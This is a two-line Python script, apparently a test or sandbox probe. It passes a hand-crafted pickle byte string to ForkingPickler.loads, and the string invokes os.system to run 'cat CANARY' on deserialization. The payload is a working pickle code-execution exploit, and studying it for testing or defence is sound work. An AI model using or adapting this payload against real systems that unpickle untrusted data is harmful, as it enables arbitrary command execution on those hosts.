from multiprocessing import reduction

print(reduction.ForkingPickler.loads(b"cos\nsystem\n(S'cat CANARY'\ntR."))
